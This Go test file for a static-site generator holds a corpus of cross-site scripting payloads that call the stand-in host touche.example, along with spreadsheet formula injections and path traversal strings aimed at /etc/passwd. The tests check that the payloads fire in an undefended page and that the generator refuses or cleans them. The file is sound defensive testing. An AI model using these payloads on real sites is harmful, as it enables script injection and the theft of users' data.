package browsertest

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"path"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"recueil/assets"
	"recueil/internal/content"
	"recueil/internal/diag"
	"recueil/internal/publish"
	"recueil/internal/site"
	"recueil/templates"
)

// call asks another site for something: what a hostile text wants to do, where the browser
// shows it did.
const call = `fetch('//touche.example')`

// payloads are what contributors could write to have it done, by the way they take. Each
// runs in a page that puts it where it stands without a defence.
var payloads = map[string][]string{
	"element": {
		`<script>` + call + `</script>`,
		`<img src=x onerror=` + call + `>`,
		`<iframe src="//touche.example"></iframe>`,
		`<object data="//touche.example"></object>`,
		`<embed src="//touche.example">`,
		`<link rel=stylesheet href="//touche.example">`,
		`<style>@import "//touche.example";</style>`,
		`<meta http-equiv=refresh content="0;url=//touche.example">`,
		`<video poster="//touche.example"></video>`,
		`<SCRIPT SRC=//touche.example></SCRIPT>`,
	},
	"event": {
		`<svg onload=` + call + `>`,
		`<body onpageshow=` + call + `>`,
		`<details open ontoggle=` + call + `>`,
		`<input autofocus onfocus=` + call + `>`,
		`<video><source onerror=` + call + `></video>`,
		`<audio src=x onerror=` + call + `>`,
		`<style onload=` + call + `></style>`,
		`<a autofocus tabindex=1 onfocus=` + call + `>`,
		`<img/src="x"/onerror=` + call + `>`,
	},
	"drawing": {
		`<svg><script>` + call + `</script></svg>`,
		`<svg><image href="//touche.example"/></svg>`,
		`<svg><animate onbegin=` + call + ` attributeName=x dur=1s>`,
		`<svg><set onbegin=` + call + ` attributeName=x>`,
		`<svg><style>@import "//touche.example"</style></svg>`,
		`<svg><foreignObject><img src=x onerror=` + call + `></foreignObject></svg>`,
		`<svg/onload=` + call + `>`,
		`<svg><feImage href="//touche.example"/><filter id=f><feImage href="//touche.example"/></filter><rect filter="url(#f)" width=9 height=9 /></svg><img src="//touche.example">`,
	},
	"attribute": {
		`"><img src=x onerror=` + call + `>`,
		`'"><svg onload=` + call + `>`,
		`" autofocus tabindex=1 onfocus="` + call,
		`"><script>` + call + `</script>`,
		`"></p><iframe src=//touche.example></iframe>`,
		`" style="background:url(//touche.example)`,
		`" onanimationstart="" style="background-image:url('//touche.example')`,
		`"/><img src="//touche.example`,
	},
	"data": {
		`</script><script>` + call + `</script>`,
		`</title><script>` + call + `</script>`,
		`--><script>` + call + `</script>`,
		`]]><script>` + call + `</script>`,
		`</SCRIPT ><img src=x onerror=` + call + `>`,
		`</textarea><img src=x onerror=` + call + `>`,
		`</style><img src=x onerror=` + call + `>`,
		`<!--></script><svg onload=` + call + `>`,
	},
	"link": {
		`<a href="javascript:` + call + `">a</a>`,
		`<a href="JaVaScRiPt:` + call + `">a</a>`,
		`<a href="java&#9;script:` + call + `">a</a>`,
		`<a href="&#1;javascript:` + call + `">a</a>`,
		`<a href="javascript&colon;` + call + `">a</a>`,
		`<a href="java&#10;script:` + call + `">a</a>`,
		`<form action="javascript:` + call + `"><button>a</button></form>`,
		`<a href="//touche.example">a</a>`,
	},
}

// places are where a payload may stand in a document.
var places = []struct{ name, head, body string }{
	{"text", "", "Avant %s après.\n"},
	{"title", "titre: %s\n", ""},
	{"summary", "resume: %s\n", ""},
	{"word", "mots_cles: [%s]\n", ""},
	{"source", "source: {titre: %s}\n", ""},
	{"heading and alternative", "", "## %s\n\n![%s](../images/a.svg)\n"},
}

// hostileDocuments are a payload at a place each, by their paths.
func hostileDocuments() map[string]string {
	files := map[string]string{}
	for way, list := range payloads {
		for i, payload := range list {
			for j, p := range places {
				quoted := "'" + strings.ReplaceAll(payload, "'", "''") + "'"
				head := "titre: Un titre\nresume: Un texte.\ndate: 2026-01-01\n"
				if key, _, ok := strings.Cut(p.head, ":"); ok {
					var kept []string
					for line := range strings.Lines(head) {
						if !strings.HasPrefix(line, key+":") {
							kept = append(kept, line)
						}
					}
					head = strings.Join(kept, "") + strings.ReplaceAll(p.head, "%s", quoted)
				}
				files[fmt.Sprintf("fiches/%s-%d-%d.md", way, i, j)] = "---\n" + head + "---\n\n" + strings.ReplaceAll(p.body, "%s", payload)
			}
		}
	}
	for i, dest := range []string{"javascript:" + call, "data:text/html,<script>" + call + "</script>", "JAVASCRIPT:a()", "java&#10;script:a()", "vbscript:a()", "<javascript:a()>", "java\\script:a()", "&#106;avascript:a()", "blob:x", "//touche.example"} {
		files[fmt.Sprintf("fiches/adresse-%d.md", i)] = "---\ntitre: Un titre\nresume: Un texte.\ndate: 2026-01-01\n---\n\n[a](" + dest + ") ![b](" + dest + ")\n"
	}
	for i, cell := range []string{"=HYPERLINK(\"//touche.example\")", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|x!A1", "\\t=1+1", "=IMPORTXML(\"//touche.example\")"} {
		files[fmt.Sprintf("fiches/cellule-%d.md", i)] = "---\ntitre: \"" + strings.ReplaceAll(cell, `"`, `\"`) + "\"\nresume: \"=1+1\"\ndate: 2026-01-01\nauteur: \"@SUM(1)\"\n---\n\nTexte.\n"
	}
	for i, file := range []string{"../../../etc/passwd", "/../../etc/passwd", "..%2f..%2fetc%2fpasswd", "../images/../../recueil.yaml", "file:///etc/passwd", "..\\..\\etc\\passwd", "../fichiers/../../../etc/passwd", "%2e%2e/%2e%2e/etc/passwd"} {
		files[fmt.Sprintf("fiches/chemin-%d.md", i)] = "---\ntitre: Un titre\nresume: Un texte.\ndate: 2026-01-01\n---\n\n![a](" + file + ") [b](" + file + ")\n"
	}
	return files
}

// TestPayloadsAreLive opens each payload in a page without a defence: it calls, or the
// corpus proves nothing.
func TestPayloadsAreLive(t *testing.T) {
	t.Parallel()
	pages := map[string]string{}
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, pages[r.URL.Path])
	})
	h := httptest.NewServer(mux)
	t.Cleanup(h.Close)
	b := open(t, &server{URL: h.URL + "/"})
	b.expect("") // all that comes is wanted
	for way, list := range payloads {
		for i, payload := range list {
			page := "<!DOCTYPE html><title>a</title><p>" + payload
			if way == "attribute" {
				page = `<!DOCTYPE html><title>a</title><p title="` + payload + `">a</p>`
			}
			if way == "data" {
				open, _, _ := strings.Cut(strings.Trim(payload, "</!->] "), ">")
				kind := strings.ToLower(strings.TrimSpace(open))
				page = "<!DOCTYPE html><" + kind + ` type="application/ld+json">` + payload
				if strings.HasPrefix(payload, "-->") {
					page = "<!DOCTYPE html><!-- " + payload
				} else if !strings.HasPrefix(payload, "</") {
					page = "<!DOCTYPE html>" + payload
				}
			}
			address := fmt.Sprintf("/%s/%d", way, i)
			pages[address] = page
			before := b.calls()
			b.tryTo(address)
			for range 20 {
				if b.calls() > before {
					break
				}
				_, _ = chromedp.Run(b.ctx, chromedp.Evaluate[bool](`new Promise((r) => setTimeout(r, 50, true))`, chromedp.EvalAwaitPromise))
			}
			if b.calls() == before {
				t.Errorf("%s %d does nothing: %s", way, i, payload)
			}
		}
	}
}

// calls counts the requests to the other site.
func (b *tab) calls() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	n := 0
	for _, f := range b.faults {
		if strings.Contains(f, "touche.example") {
			n++
		}
	}
	return n
}

// tryTo opens a page, which may lead elsewhere, and presses what it shows.
func (b *tab) tryTo(address string) {
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	_ = chromedp.Do(ctx, chromedp.Navigate(b.origin+strings.TrimPrefix(address, "/"))) // it may be gone already
	_, _ = chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelectorAll("a[href], form button").forEach((e) => e.click()) ?? true`))
}

// TestHostileContent builds a recueil of hostile documents, but those that are refused, at
// their place, and opens each page that is left: nothing runs, and nothing is asked of
// another site. What is published is well formed, and holds nothing that would run.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	documents := hostileDocuments()
	tree := fstest.MapFS{
		"recueil.yaml": {Data: []byte("titre: Essai\nbase_url: https://essai.example.org/\n")},
		"images/a.svg": {Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>`)},
	}
	for name, text := range documents {
		tree[name] = &fstest.MapFile{Data: []byte(text)}
	}
	in := site.Input{Content: []content.Root{{Name: "content", FS: tree}}, Templates: templates.FS, Assets: assets.FS}
	_, problems, err := site.Build(context.Background(), in, publish.NewMemory(), site.Options{Today: today, Jobs: 2})
	if err != nil {
		t.Fatal(err)
	}
	refused := 0
	for _, p := range problems {
		if name := strings.TrimPrefix(p.Source.Path, "content/"); p.Severity == diag.Error && tree[name] != nil {
			delete(tree, name)
			refused++
		}
	}
	out := publish.NewMemory()
	_, problems, err = site.Build(context.Background(), in, out, site.Options{Today: today, Jobs: 2})
	if err != nil || diag.HasErrors(problems) {
		t.Fatal(err, problems)
	}
	published := 0
	b := open(t, serve(t, out.FS(), ownPath))
	for name := range documents {
		if tree[name] != nil {
			published++
			b.visit(strings.TrimSuffix(name, ".md") + "/")
		}
	}
	for _, address := range []string{"", "fiches/", "fiches/page/2/", "recherche/?q=script"} {
		b.visit(address)
	}
	t.Logf("%d documents published, %d refused", published, len(documents)-published)
	if published < 150 || refused < 40 {
		t.Errorf("%d documents published, %d refused: too few to show anything", published, refused)
	}
	if err := fs.WalkDir(out.FS(), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fs.ReadFile(out.FS(), name)
		if err == nil {
			err = harmless(name, data)
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
}

// formula matches a cell that a spreadsheet would compute.
var formula = regexp.MustCompile(`(?m)(?:^|[,;])"?[=+@\t-]`)

// harmless says what in a published file would run or call, or is not what its name says.
func harmless(name string, data []byte) error {
	switch path.Ext(name) {
	case ".html":
		return harmlessHTML(data)
	case ".json":
		if !json.Valid(data) {
			return errors.New("is no JSON")
		}
	case ".xml", ".svg":
		d := xml.NewDecoder(bytes.NewReader(data))
		for {
			token, err := d.Token()
			if errors.Is(err, io.EOF) {
				return nil
			}
			if e, ok := token.(xml.StartElement); ok && (e.Name.Local == "script" || e.Name.Local == "iframe" || e.Name.Local == "img") {
				return fmt.Errorf("has <%s>", e.Name.Local)
			}
			if err != nil {
				return err
			}
		}
	case ".csv":
		if formula.Match(data) {
			return errors.New("has a cell that is a formula")
		}
	}
	return nil
}

func harmlessHTML(page []byte) error {
	z := html.NewTokenizer(bytes.NewReader(page))
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		token := z.Token()
		own := strings.Contains("iframe object embed style video audio foreignobject animate set", token.Data) && len(token.Data) > 2
		for _, a := range token.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			fetched := (a.Key == "src" || a.Key == "data" || a.Key == "poster") && strings.Contains(value, "//")
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || fetched || strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") {
				return fmt.Errorf("has <%s %s=%q>", token.Data, a.Key, a.Val)
			}
		}
		if own {
			return fmt.Errorf("has <%s>", token.Data)
		}
	}
	return nil
}
